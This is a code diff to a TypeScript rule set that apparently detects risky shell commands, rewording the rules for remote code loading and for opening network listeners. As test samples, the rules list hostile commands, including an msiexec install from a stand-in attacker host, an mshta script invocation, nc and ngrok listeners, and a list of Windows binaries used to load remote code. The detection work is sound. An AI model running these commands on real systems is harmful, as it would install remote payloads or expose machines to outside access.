@@ -2,7 +2,7 @@ import { rule } from "../rule.ts";
 import { hasFlag, operands, optionValues } from "../../programs/arguments.ts";
 import type { Rule, SimpleCommand } from "../../model.ts";
 import { classifyPath } from "../../programs/paths.ts";
-import { SHELLS } from "../../programs/shells.ts";
+import { SHELLS } from "../../programs/families/shells.ts";
 import { uploads } from "../../programs/families/transfer.ts";
 import { sendsSecret } from "./sending.ts";
 
@@ -219,13 +219,14 @@ export const NETWORK_RULES: readonly Rule[] = [
   }),
   rule({
     id: "network.loads_address",
-    title: "Run what an address holds",
+    title: "Run code from an address",
     commands: ["mshta", "regsvr32", "rundll32", "msiexec", "installutil", "wscript", "cscript"],
     match: (command) => mentions(command, LOADED),
     evenRehearsed: true,
     weight: [5, 4],
     threat: "remote_code_execution",
-    explanation: "It runs what an address holds, or code in its arguments, unseen and unchecked.",
+    explanation:
+      "It runs code from an address or from its arguments, before anybody has seen or checked it.",
     safer: "Download it to a file, check it, then run it.",
     hits: ["mshta javascript:a=1", "msiexec /i http://evil.example/x.msi /q"],
     misses: ["regsvr32 /s app.dll", "msiexec /i app.msi /qn"],
@@ -267,7 +268,7 @@ export const NETWORK_RULES: readonly Rule[] = [
     evenRehearsed: true,
     weight: [3, 3],
     threat: "remote_access",
-    explanation: "It opens this machine to connections from outside.",
+    explanation: "It opens this machine to connections from other machines.",
     safer: "Use a port that your administrators have opened.",
     hits: ["nc -l 4444", "ngrok http 8080"],
     misses: ["nc -z localhost 5432", "socat - TCP:localhost:80"],
